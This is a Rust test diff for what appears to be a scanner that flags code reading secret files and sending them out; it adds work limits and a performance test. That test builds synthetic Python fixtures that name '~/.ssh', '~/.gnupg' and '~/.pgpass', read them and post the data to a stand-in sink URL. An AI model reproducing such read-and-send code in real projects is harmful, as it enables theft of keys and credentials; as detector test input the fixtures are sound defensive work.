@@ -10,7 +10,10 @@ fn found(files: &[(&str, &str)]) -> Vec<(usize, u32)> {
             is_program: !data.iter().any(|end| path.ends_with(end)),
         })
         .collect();
-    gathered(&files).into_iter().map(|found| (found.file, found.chain.last_line())).collect()
+    let mut limits = GATHERED_LIMITS;
+    let found = gathered(&files, &mut limits);
+    assert!(!limits.exhausted);
+    found.into_iter().map(|found| (found.file, found.chain.last_line())).collect()
 }
 
 #[test]
@@ -80,4 +83,35 @@ fn honest_programs_that_know_where_keys_lie_send_nothing_or_ask_where() {
     ] {
         assert_eq!(found(&[(path, text)]), [], "{path}");
     }
+}
+
+#[test]
+fn many_files_that_name_keys_and_send_cost_each_a_few_readings() {
+    let source = "p = ['~/.ssh', '~/.gnupg', '~/.pgpass']\nt = open(p).read()\n";
+    let sender = format!("{}requests.post(SINK, data=t)\n", "x.post(y)\n".repeat(200));
+    let texts: Vec<_> = (0..150)
+        .flat_map(|at| {
+            [
+                (format!("lib/take-{at}.py"), source.to_owned()),
+                (format!("lib/give_{at}.py"), sender.clone()),
+            ]
+        })
+        .chain([(
+            "main.sh".to_owned(),
+            "python3 lib/take-3.py\npython3 lib/give_7.py\n".to_owned(),
+        )])
+        .chain([("lib/sink.py".to_owned(), "SINK = 'https://in.example.invalid/x'\n".to_owned())])
+        .collect();
+    let files: Vec<_> =
+        texts.iter().map(|(path, text)| GatheredFile { path, text, is_program: true }).collect();
+    let mut limits = GATHERED_LIMITS;
+    let found = gathered(&files, &mut limits);
+    assert_eq!(found.iter().map(|found| found.file).collect::<Vec<_>>(), [15]);
+    assert!(!limits.exhausted);
+    let all: usize = texts.iter().map(|(_, text)| text.len()).sum();
+    let used = GATHERED_LIMITS.work - limits.work;
+    assert!(used < all * 24, "{used} bytes of work for {all}");
+    let mut few = Limits { work: all, ..GATHERED_LIMITS };
+    assert!(gathered(&files, &mut few).is_empty());
+    assert!(few.exhausted, "what is left out is told");
 }
